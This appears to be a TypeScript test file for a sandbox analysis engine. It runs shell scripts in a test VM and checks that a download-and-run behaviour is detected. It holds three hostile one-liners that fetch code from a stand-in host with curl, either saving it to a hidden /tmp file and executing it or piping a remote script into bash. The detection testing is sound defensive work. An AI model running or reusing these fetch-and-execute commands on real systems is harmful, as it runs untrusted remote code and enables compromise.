// What is fetched in the guest can be started there: the imitated web gives programs and scripts where they are asked for, and the
// run goes on to what follows.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '@assay/engine'
import { openTestVm } from './test-vm.ts'

const { vm, skip } = await openTestVm()

const STAGES: Readonly<Record<string, string>> = {
  'a program':
    'curl -s -o /tmp/.x http://203.0.113.5/bins/x.x86 && chmod 755 /tmp/.x && /tmp/.x && echo after > /tmp/after',
  'a thing without an ending':
    'curl -s -o /tmp/.x http://203.0.113.5/b/k && chmod 755 /tmp/.x && /tmp/.x && echo after > /tmp/after',
  'a script through a pipe': 'curl -s http://203.0.113.5/init.sh | bash && echo after > /tmp/after',
}

for (const [name, line] of Object.entries(STAGES))
  test(`a second stage runs: ${name}`, { skip }, async () => {
    const outcome = await vm?.run({ bytes: Buffer.from(`#!/bin/bash\n${line}\n`), fileName: 'a.sh', observeMs: 45_000 })
    assert.ok(outcome?.status === 'complete', JSON.stringify(outcome).slice(0, 300))
    const { trace } = outcome
    assert.ok(
      trace.files.some(({ op, path }) => op === 'write' && path === '/tmp/after'),
      outcome.output.toString(),
    )
    const { findings } = analyzeTrace([trace], { path: 'a.sh' })
    assert.ok(
      findings.some(({ id }) => id === 'trace_downloads_and_runs'),
      JSON.stringify(findings.map(({ id }) => id)),
    )
  })
